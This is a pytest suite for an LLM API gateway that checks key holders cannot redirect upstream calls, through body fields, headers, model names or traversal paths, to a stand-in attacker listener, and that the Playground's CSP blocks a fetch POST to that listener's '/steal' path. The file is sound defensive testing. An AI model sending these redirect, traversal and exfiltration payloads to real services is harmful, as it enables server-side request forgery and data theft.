"""A key holder cannot make the gateway call a URL of their choosing: upstream URLs come from the admin alone.

Every request below carries a valid key and tries to steer the upstream call: by a body field, a
header, a URL as the model name, or a Gemini model path that climbs out of `/models/`. The
configured upstream gets the call (or the gateway refuses it), and a listener standing in for the
attacker's server receives nothing at all. The browser side, the Playground's CSP, is checked too.
"""

from __future__ import annotations

import http.client
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import httpx
import pytest

from tests.conftest import gateway_config, seed_keys
from tests.emulator_harness import EmulatorServer
from tests.gateway_harness import GatewayServer

GEMINI_ANSWER = {
    "candidates": [
        {"content": {"role": "model", "parts": [{"text": "ok"}]}, "finishReason": "STOP", "index": 0}
    ],
    "usageMetadata": {"promptTokenCount": 1, "candidatesTokenCount": 1, "totalTokenCount": 2},
    "modelVersion": "gemini-2.5-flash",
}
CHAT = {"messages": [{"role": "user", "content": "hi"}]}
CLAUDE = {"max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]}
GEMINI = {"contents": [{"role": "user", "parts": [{"text": "hi"}]}]}


@dataclass
class Listener:
    """A tiny HTTP server on a free loopback port: it counts every connection and keeps every request."""

    answer: dict[str, Any] = field(default_factory=dict)
    connections: int = 0
    requests: list[dict[str, Any]] = field(default_factory=list)

    def __post_init__(self) -> None:
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                listener.connections += 1
                super().setup()

            def _any(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length) if length else b""
                listener.requests.append(
                    {"method": self.command, "target": self.path, "headers": dict(self.headers), "body": body}
                )
                data = json.dumps(listener.answer).encode()
                sse = "alt=sse" in self.path
                data = b"data: " + data + b"\n\n" if sse else data
                self.send_response(200)
                self.send_header("content-type", "text/event-stream" if sse else "application/json")
                self.send_header("content-length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = do_OPTIONS = _any

            def log_message(self, format: str, *args: Any) -> None:
                pass  # not a log of ours: keep it off stderr

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.url = f"http://{self.host}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@dataclass
class Setup:
    gateway: GatewayServer
    emulator: EmulatorServer
    keys: dict[str, str]
    attacker: Listener
    recorder: Listener  # the upstream of the `recorded` group: it keeps each request's exact target

    def post(self, path: str, body: Any, group: str, headers: dict[str, str] | None = None) -> httpx.Response:
        key = self.keys[group]
        auth = {"x-goog-api-key": key} if "/models/" in path else {"authorization": f"Bearer {key}"}
        if path.startswith("/v1/messages"):
            auth = {"x-api-key": key, "anthropic-version": "2023-06-01"}
        return httpx.post(self.gateway.url + path, json=body, headers={**auth, **(headers or {})}, timeout=30)

    def raw_post(self, target: str, group: str | None) -> int:
        """A request target sent exactly as written: httpx would tidy `..` and `//` away first."""
        conn = http.client.HTTPConnection(self.gateway.url.removeprefix("http://"), timeout=30)
        try:
            headers = {"content-type": "application/json"}
            if group is not None:
                headers["x-goog-api-key"] = self.keys[group]
            conn.request("POST", target, body=json.dumps(GEMINI), headers=headers)
            response = conn.getresponse()
            response.read()
            return response.status
        finally:
            conn.close()


@pytest.fixture(scope="module")
def setup(emulator: EmulatorServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    attacker, recorder = Listener(), Listener(GEMINI_ANSWER)
    workdir = tmp_path_factory.mktemp("open-proxy")
    config = gateway_config(emulator, f"sqlite+aiosqlite:///{workdir / 'torouter.db'}")
    # A Gemini account behind a path prefix, as behind a company proxy: any climb out of it shows.
    config["upstreams"].append(
        {"name": "recorded", "platform": "gemini", "base_url": recorder.url + "/google", "api_key": "sk-rec"}
    )
    config["groups"].append({"name": "recorded", "platform": "gemini", "upstreams": ["recorded"]})
    gw = GatewayServer(workdir, config)
    keys = seed_keys(gw.config_path, [g["name"] for g in config["groups"]])
    try:
        with gw:
            yield Setup(gw, emulator, keys, attacker, recorder)
    finally:
        attacker.close()
        recorder.close()


@pytest.fixture(autouse=True)
def _nothing_reaches_the_attacker(setup: Setup) -> Iterator[None]:
    setup.recorder.requests.clear()
    yield
    assert setup.attacker.connections == 0, setup.attacker.requests


def upstream_got_it_or_gateway_refused(setup: Setup, response: httpx.Response, path: str) -> None:
    status = response.status_code
    got = [r for r in setup.emulator.requests() if r["path"] == path]
    assert got or 400 <= status < 500, (status, path)
    setup.emulator.reset()


def assert_confined(recorder: Listener) -> None:
    """Each call the recorded account got went to its base URL's /v1beta/models/{one segment}:{action}."""
    for request in recorder.requests:
        target = request["target"]
        path = urlsplit(target).path
        assert re.fullmatch(r"/google/v1(?:beta|alpha)?/models/[^/]+:\w+", path), target
        assert ".." not in path.split("/") and "key" not in dict(parse_qsl(urlsplit(target).query)), target


# ---------------------------------------------------------------- body fields and headers

REDIRECTS = (
    "base_url",
    "api_base",
    "baseURL",
    "base",
    "url",
    "endpoint",
    "upstream",
    "host",
    "proxy",
    "server",
)
CALLS = [
    ("/v1/chat/completions", {"model": "gpt-4o-mini", **CHAT}, "openai", "/v1/chat/completions"),
    ("/v1/responses", {"model": "gpt-4o-mini", "input": "hi"}, "openai", "/v1/responses"),
    ("/v1/embeddings", {"model": "text-embedding-3-small", "input": "hi"}, "openai", "/v1/embeddings"),
    ("/v1/messages", {"model": "claude-sonnet-4-5", **CLAUDE}, "anthropic", "/v1/messages"),
    (
        "/v1beta/models/gemini-2.5-flash:generateContent",
        GEMINI,
        "gemini",
        "/v1beta/models/gemini-2.5-flash:generateContent",
    ),
    (
        "/v1/chat/completions",
        {"model": "claude-haiku-4-5", **CHAT},
        "claude-on-gemini",
        "/v1beta/models/gemini-2.5-pro:generateContent",
    ),
]


@pytest.mark.parametrize(("path", "body", "group", "upstream_path"), CALLS, ids=lambda v: str(v))
def test_url_fields_in_the_body_do_not_move_the_upstream_call(
    setup: Setup, path: str, body: dict[str, Any], group: str, upstream_path: str
) -> None:
    fields = {name: setup.attacker.url + "/v1" for name in REDIRECTS}
    extra = {**fields, "extra_body": fields, "metadata": {"base_url": setup.attacker.url}}
    upstream_got_it_or_gateway_refused(setup, setup.post(path, {**body, **extra}, group), upstream_path)


HEADERS = {
    "host": "{host}",
    "x-forwarded-host": "{host}",
    "x-forwarded-proto": "http",
    "forwarded": "host={host};proto=http",
    "x-original-url": "{url}/v1/chat/completions",
    "x-rewrite-url": "{url}/v1/chat/completions",
    "x-torouter-upstream": "{url}",
    "x-torouter-base-url": "{url}",
    "x-torouter-upstream-url": "{url}",
    "x-upstream-url": "{url}",
    "x-base-url": "{url}",
    "openai-base-url": "{url}/v1",
    "anthropic-base-url": "{url}",
    "x-goog-api-base": "{url}",
}


@pytest.mark.parametrize(("path", "body", "group", "upstream_path"), CALLS, ids=lambda v: str(v))
def test_headers_naming_another_host_do_not_move_the_upstream_call(
    setup: Setup, path: str, body: dict[str, Any], group: str, upstream_path: str
) -> None:
    for name, value in HEADERS.items():
        headers = {name: value.format(host=setup.attacker.host, url=setup.attacker.url)}
        response = setup.post(path, body, group, headers)
        upstream_got_it_or_gateway_refused(setup, response, upstream_path)


# ---------------------------------------------------------------- the model name


def attacker_models(setup: Setup) -> list[str]:
    a = setup.attacker
    return [
        f"{a.url}/v1",
        f"//{a.host}/v1",
        f"openai/{a.url}",
        f"gemini-x@{a.host}",
        f"gemini-x/../../../..//{a.host}/x",
        f"claude-x@{a.host}",
        f"gpt-4o-mini#@{a.host}",
    ]


@pytest.mark.parametrize(
    "group",
    [
        "openai",
        "openrouter",
        "compat",
        "anthropic",
        "gemini",
        "claude-on-gemini",
        "gpt-on-anthropic",
        "recorded",
    ],
)
def test_a_url_as_the_model_name_stays_a_name(setup: Setup, group: str) -> None:
    for model in attacker_models(setup):
        response = setup.post("/v1/chat/completions", {"model": model, **CHAT}, group)
        assert response.status_code in (200, 400, 404), (model, response.text)
        claude = setup.post("/v1/messages", {"model": model, **CLAUDE}, group)
        assert claude.status_code in (200, 400, 404), (model, claude.text)
    assert_confined(setup.recorder)


def test_image_urls_in_a_translated_call_are_not_fetched_by_the_gateway(setup: Setup) -> None:
    image = {"type": "image_url", "image_url": {"url": setup.attacker.url + "/cat.png"}}
    content = [{"type": "text", "text": "what is this?"}, image]
    for group in ("claude-on-gemini", "gpt-on-anthropic", "openai"):
        model = "claude-haiku-4-5" if group == "claude-on-gemini" else "gpt-4o-mini"
        body = {"model": model, "messages": [{"role": "user", "content": content}]}
        response = setup.post("/v1/chat/completions", body, group)
        assert response.status_code in (200, 400), response.text


# ---------------------------------------------------------------- Gemini's model path


def climbing_targets(setup: Setup) -> list[str]:
    a = setup.attacker
    return [
        "/v1beta/models/gemini-x/../../../evil:generateContent",
        "/v1beta/models/gemini-x%2F..%2F..%2F..%2Fevil:generateContent",
        "/v1beta/models/gemini-x/..%2F..%2Fcachedcontents:generateContent",
        f"/v1beta/models/gemini-x%2F%2F{a.host}%2Fx:generateContent",
        f"/v1beta/models/{a.url}/x:generateContent",
        f"/v1beta/models/gemini-x@{a.host}:generateContent",
        "/v1beta/models/gemini-x%3Fkey%3Dsomeone-else%23:generateContent",
        "/v1beta/models/gemini-x%23:streamGenerateContent?alt=sse",
        "/v1/models/gemini-x/../../../evil:generateContent",
        "/v1beta/models/models%2F..%2F..%2Fevil:countTokens",
    ]


@pytest.mark.parametrize("group", ["recorded", "gemini"])
def test_a_gemini_model_path_cannot_climb_out_of_models(setup: Setup, group: str) -> None:
    for target in climbing_targets(setup):
        status = setup.raw_post(target, group)
        assert_confined(setup.recorder)
        assert status in (200, 400, 404), (target, status)
    body = {"model": "gemini-x/../../../evil", **CHAT}  # the same, through translation from OpenAI Chat
    assert setup.post("/v1/chat/completions", body, group).status_code in (200, 400, 404)
    assert_confined(setup.recorder)
    if group == "recorded":
        assert len(setup.recorder.requests) >= 2  # the calls did go upstream, each to a model of its own


def test_query_parameters_do_not_name_another_host(setup: Setup) -> None:
    a = setup.attacker
    target = f"/v1beta/models/gemini-2.5-flash:generateContent?base_url={a.url}&upstream={a.url}&alt=json&host={a.host}"
    assert setup.raw_post(target, "recorded") == 200
    assert_confined(setup.recorder)


def test_the_clients_key_is_taken_off_the_query_before_the_call_goes_upstream(setup: Setup) -> None:
    key = setup.keys["recorded"]
    for spelled, status in (("key", 200), ("%6Bey", 401), ("k%65y", 401)):  # only the plain name is a key
        target = f"/v1beta/models/gemini-2.5-flash:generateContent?alt=json&{spelled}={key}"
        assert setup.raw_post(target, None) == status, spelled
    assert [urlsplit(r["target"]).query for r in setup.recorder.requests] == ["alt=json"]


# ---------------------------------------------------------------- the Playground in a browser


@pytest.mark.parametrize("page", ["/playground", "/dashboard"])
def test_the_pages_may_only_fetch_from_the_gateway_itself(setup: Setup, page: str) -> None:
    response = httpx.get(setup.gateway.url + page)
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    assert directives["connect-src"] == ["'self'"] and directives["default-src"] == ["'self'"]
    assert "http" not in policy and "*" not in policy


def test_a_fetch_from_the_playground_to_another_origin_is_blocked(setup: Setup) -> None:
    chromium = Path("/usr/bin/chromium")
    if not chromium.exists():
        pytest.skip("Chromium is not installed")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=str(chromium), args=["--no-sandbox", "--disable-dev-shm-usage"]
        )
        try:
            page = browser.new_page()
            page.goto(setup.gateway.url + "/playground")
            outcome = page.evaluate(
                """async (url) => {
                    try { await fetch(url, {method: 'POST', body: 'x'}); return 'fetched'; }
                    catch (e) { return 'blocked: ' + e; }
                }""",
                setup.attacker.url + "/steal",
            )
            same_origin = page.evaluate("async () => (await fetch('/healthz')).status")
        finally:
            browser.close()
    assert outcome.startswith("blocked"), outcome
    assert same_origin == 200
